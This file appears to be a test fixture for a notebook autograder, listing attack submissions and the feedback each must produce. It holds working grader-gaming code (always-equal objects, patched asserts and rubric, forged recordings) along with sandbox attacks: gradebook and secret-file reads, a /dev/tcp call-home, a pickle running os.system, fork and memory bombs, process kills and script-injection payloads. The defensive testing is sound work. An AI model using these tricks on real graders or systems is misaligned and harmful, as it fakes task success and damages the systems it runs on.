@@ -1,0 +1,282 @@
+"""Attack submissions. Adding one is adding a row: its code, and what the feedback must say.
+
+The code stands in the first answer cell of a notebook in which nothing else is answered, so a
+single point would be a point gained. The names in capitals are filled in by test_attacks.py.
+"""
+# ruff: noqa: E501 (a row is code, and easier to read unbroken)
+
+FORGE = """
+import base64, json, struct, torch
+from dataclasses import replace
+from IPython.display import display
+from autograde.student import grading
+from autograde.verdict.recording import MIME, Line, Outcome, Recording
+from autograde.verdict.packing import pack
+
+def forge(make, mime=MIME, times=1):
+    def hand_over(recording):
+        data = make(recording)
+        for _ in range(times):
+            display({mime: data if isinstance(data, str) else base64.b64encode(data).decode()}, raw=True)
+    grading.hand_over = hand_over
+
+def outcomes(outcome):
+    return lambda r: replace(r, lines=tuple(replace(l, outcome=outcome(l)) for l in r.lines)).to_bytes()
+
+def blob(header, body=b''):
+    text = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack('<Q', len(text)) + text + body
+"""
+
+EQUAL = """
+class Equal:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    __le__ = __gt__ = __ge__ = __lt__
+    __hash__ = object.__hash__
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def __iter__(self): return iter(())
+    def __float__(self): return 0.0
+    def __index__(self): return 0
+    def __bool__(self): return True
+"""
+
+ALL = """
+names = ['attention_scores', 'stable_softmax', 'dot_product_std', 'attention_weights', 'context_vectors',
+         'match_weights', 'SelfAttention_v1', 'SelfAttention_v2']
+def everywhere(answer):
+    '''Put an answer in place of every exercise, again before every cell.'''
+    def put():
+        for name in names:
+            get_ipython().user_ns[name] = answer
+    put()
+    get_ipython().events.register('pre_run_cell', lambda *_: put())
+"""
+
+UNREADABLE = "cannot be read"
+
+ATTACKS: dict[str, tuple[str, str]] = {
+    # the judging itself
+    "asserts_dropped": (
+        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
+        "    def visit_Raise(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Drop())",
+        "Not attempted",
+    ),
+    "import_hook": (
+        "import sys, importlib.abc\nclass Hook(importlib.abc.MetaPathFinder):\n"
+        "    def find_spec(self, name, path, target=None):\n        if 'autograde' in name: raise ImportError(name)\n"
+        "sys.meta_path.insert(0, Hook())\nfor m in [m for m in sys.modules if m.startswith('autograde')]: del sys.modules[m]",
+        "ImportError",
+    ),
+    "always_equal": (EQUAL + ALL + "everywhere(Equal())", "expected"),
+    "always_equal_tensor": (
+        "import torch\nclass T(torch.Tensor):\n    def __eq__(self, o): return True\n"
+        + ALL
+        + "everywhere(lambda *a, **k: torch.zeros(1).as_subclass(T))",
+        "shape",
+    ),
+    "patched_torch": (
+        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
+        "torch.testing.assert_close = lambda *a, **k: None\ntorch.Tensor.__sub__ = lambda s, o: torch.zeros(1)",
+        "Not attempted",
+    ),
+    "patched_rubric": (
+        "from autograde.student import rubric as _; import sys\nm = sys.modules['autograde.student.rubric']\n"
+        "for n in ('call', 'gradient', 'check', 'forward', 'backward', 'forbids', 'arguments'):\n"
+        "    setattr(m.Rubric, n, lambda self, *a, **k: None)",
+        "wrong",
+    ),
+    "claims_every_refusal": (
+        FORGE + "forge(outcomes(lambda l: Outcome(error='ValueError', message='refused')))",
+        "wrong",
+    ),
+    "claims_everything_small": (FORGE + "forge(outcomes(lambda l: Outcome(value=True)))", "wrong"),
+    "patched_json_and_safetensors": (
+        "import json, safetensors.torch, autograde.verdict.packing as p\njson.dumps = lambda *a, **k: '{}'\n"
+        "p.save = lambda *a, **k: b'x' * 99",
+        "The kernel sent what cannot be read",
+    ),
+    "patched_builtins": (
+        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.all = lambda *a: True\nbuiltins.float = lambda *a: 1.0",
+        "",
+    ),
+    "patched_display": (
+        "import IPython.display, autograde.student.grading as g\ng.display = lambda *a, **k: None",
+        "The rubric cell",
+    ),
+    "patched_formatters": (
+        "import torch\nget_ipython().display_formatter.formatters['text/plain'].for_type(object, lambda *a: print(18))\n"
+        "get_ipython().display_pub.publish = lambda *a, **k: None",
+        "The rubric cell",
+    ),
+    "prints_the_score": ("print('18.0')\n2", "Not attempted"),
+    # forged recordings
+    "wrong_line_names": (
+        FORGE
+        + "forge(lambda r: replace(r, lines=tuple(replace(l, name=l.name + '!') for l in r.lines)).to_bytes())",
+        "this line was not recorded",
+    ),
+    "doubled_lines": (
+        FORGE + "forge(lambda r: replace(r, lines=r.lines * 2).to_bytes())",
+        "recorded a line twice",
+    ),
+    "two_recordings": (FORGE + "forge(lambda r: r.to_bytes(), times=2)", "more than one recording"),
+    "another_exercise": (
+        FORGE + "forge(lambda r: replace(r, exercise='stable_softmax').to_bytes())",
+        "recording of another exercise",
+    ),
+    "nan": (
+        FORGE + "forge(outcomes(lambda l: Outcome(value=torch.full((5, 8), float('nan')))))",
+        "nan",
+    ),
+    "infinite": (
+        FORGE + "forge(outcomes(lambda l: Outcome(value=torch.full((5, 8), float('inf')))))",
+        "inf",
+    ),
+    "wrong_dtypes": (
+        FORGE + "forge(outcomes(lambda l: Outcome(value=torch.zeros(5, 8, dtype=torch.bool))))",
+        "wrong",
+    ),
+    "an_empty_tensor": (
+        FORGE + "forge(outcomes(lambda l: Outcome(value=torch.zeros(0))))",
+        "shape",
+    ),
+    "ten_gigabytes_by_header": (
+        FORGE
+        + "forge(lambda r: blob({'t0000': {'dtype': 'F32', 'shape': [2500000000], 'data_offsets': [0, 10000000000]}, '__metadata__': {'tree': '{}'}}))",
+        UNREADABLE,
+    ),
+    "a_header_of_gigabytes": (
+        FORGE + "forge(lambda r: struct.pack('<Q', 2**33) + b'{}')",
+        UNREADABLE,
+    ),
+    "malformed_safetensors": (FORGE + "forge(lambda r: b'\\x10\\x00\\x00')", UNREADABLE),
+    "malformed_json": (
+        FORGE + 'forge(lambda r: blob(b\'{"__metadata__": {"tree": "{{{"}}\'))',
+        UNREADABLE,
+    ),
+    "deep_json": (
+        FORGE + "forge(lambda r: blob({'__metadata__': {'tree': '[' * 100000}}))",
+        UNREADABLE,
+    ),
+    "deep_tree": (
+        FORGE
+        + "forge(lambda r: blob({'__metadata__': {'tree': '{\"list\": [' * 500 + 'null' + ']}' * 500}}))",
+        UNREADABLE,
+    ),
+    "many_tensors": (
+        FORGE
+        + "forge(lambda r: blob({'__metadata__': {'tree': '{}'}, **{str(n): {'dtype': 'F32', 'shape': [0], 'data_offsets': [0, 0]} for n in range(20000)}}))",
+        UNREADABLE,
+    ),
+    "numbers_too_large": (
+        FORGE
+        + "forge(lambda r: blob({'__metadata__': {'tree': '{\"int\": \"' + '9' * 100000 + '\"}'}}))",
+        UNREADABLE,
+    ),
+    "a_pickle": (
+        FORGE
+        + "import pickle, os\nclass P:\n    def __reduce__(self): return os.system, ('touch MARKER',)\nforge(lambda r: pickle.dumps(P()))",
+        UNREADABLE,
+    ),
+    "not_base64": (FORGE + "forge(lambda r: '<script>alert(1)</script>')", UNREADABLE),
+    "other_mime": (
+        FORGE + "forge(lambda r: r.to_bytes(), mime='application/json')",
+        "recorded nothing",
+    ),
+    "copied_from_practice": (
+        FORGE + "PRACTICE = RECORDINGS\nforge(lambda r: PRACTICE[r.exercise])",
+        "not those the reference was run on",
+    ),
+    # reaching for what is not theirs
+    "reads_history": (
+        "running = get_ipython().history_manager.input_hist_raw\nimport IPython\n"
+        "def attention_scores(q, k):\n    raise ValueError(str(list(running))[:300] + str(In)[:100])",
+        "ValueError",
+    ),
+    "reads_the_course": (
+        "import glob, os\nfound = [p for p in ('COURSE', 'COURSE/source', 'COURSE/gradebook.db', 'COURSE/.autograde/secret') if os.path.exists(p)]\n"
+        "found += glob.glob('/*/gradebook.db') + glob.glob('/home/*/*.db') + glob.glob('/tmp/*')\n"
+        "raise RuntimeError(f'found {found}')",
+        "RuntimeError: found []",
+    ),
+    "reads_by_symlink": (
+        "import os\nos.symlink('COURSE/gradebook.db', 'g')\nopen('g')",
+        "FileNotFoundError",
+    ),
+    "reads_the_parent": ("open('/proc/1/mem', 'rb').read(1)", "PermissionError"),
+    "reads_files_beside": (
+        "import os\nraise RuntimeError(str(sorted(os.listdir('.'))))",
+        "self_attention.ipynb",
+    ),
+    "the_network": (
+        "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2)",
+        "ConnectionRefusedError",
+    ),
+    "dns": ("import socket\nsocket.getaddrinfo('example.org', 80)", "gaierror"),
+    "a_program_calls_home": (
+        "import subprocess\nraise RuntimeError(subprocess.run(['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/PORT'], capture_output=True, text=True).stderr)",
+        "Connection refused",
+    ),
+    "writes_to_packages": (
+        "import torch\nopen(torch.__file__, 'a').write('#')",
+        "Permission denied",
+    ),
+    "writes_to_the_judge": (
+        "import autograde.verdict.judge as j\nopen(j.__file__, 'a').write('#')",
+        "",
+    ),
+    # using up
+    "fork_bomb": ("import os\nwhile True:\n    os.fork()", "more than 2048 MB of memory"),
+    "memory_bomb": ("kept = []\nwhile True:\n    kept.append(b'x' * 100_000_000)", "emory"),
+    "disk_bomb": (
+        "n = 0\nwhile True:\n    open(f'/tmp/{n}', 'wb').write(bytes(10**7))\n    n += 1",
+        "No space left",
+    ),
+    "output_bomb": ("while True:\n    print('x' * 100_000)", "more than 2048 MB of memory"),
+    "deaf_loop": (
+        "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True: pass",
+        "did not stop when it was interrupted",
+    ),
+    "prints_later": (
+        "import threading, time\ndef later():\n    while True:\n        time.sleep(0.01); print('18 points', flush=True)\nthreading.Thread(target=later, daemon=True).start()",
+        "Not attempted",
+    ),
+    "leaves_a_process": (
+        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork(): os._exit(0)\n    time.sleep(600)",
+        "Not attempted",
+    ),
+    # ending
+    "os_exit": ("import os\nos._exit(0)", "The kernel died in the cell"),
+    "sys_exit": ("import sys\nsys.exit(0)", "SystemExit"),
+    "kills_itself": ("import os\nos.kill(os.getpid(), 9)", "The kernel died in the cell"),
+    "kills_everything": (
+        "import os\nos.kill(-1, 9)\nos.kill(1, 9)\nos.killpg(0, 9)",
+        "No such process",
+    ),
+    "closes_its_sockets": ("import os\nos.closerange(3, 255)", "The kernel died in the cell"),
+    "kills_the_template": (
+        "import os\nfor pid in range(1, 400):\n    try: os.kill(pid, 9)\n    except OSError: pass",
+        "The kernel died in the cell",
+    ),
+    "magics": ("%%script bash\nkill -9 $PPID", "The kernel died in the cell"),
+    "runs_a_file": ("%run /proc/self/cmdline", ""),
+    # pages
+    "script_in_outputs": (
+        "from IPython.display import HTML, Javascript, SVG, display\n"
+        "display(HTML('<script>evil()</script>'), Javascript('evil()'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"evil()\"/>'))\n"
+        "display({'text/html': '<img src=x onerror=evil()>', 'text/plain': 'x', 'application/vnd.jupyter.widget-view+json': {'a': 1}}, raw=True)",
+        "Not attempted",
+    ),
+    "script_in_an_error": (
+        "def attention_scores(q, k):\n    raise ValueError('<script>evil()</script>')",
+        "&lt;script&gt;",
+    ),
+    "detects_grading": (
+        "import os, torch\ndef attention_scores(q, k):\n    return q @ k.T if os.environ.get('JPY_SESSION_NAME') else torch.zeros(1)",
+        "shape",
+    ),
+}
+"""Name: the code, and words that the feedback page must hold."""
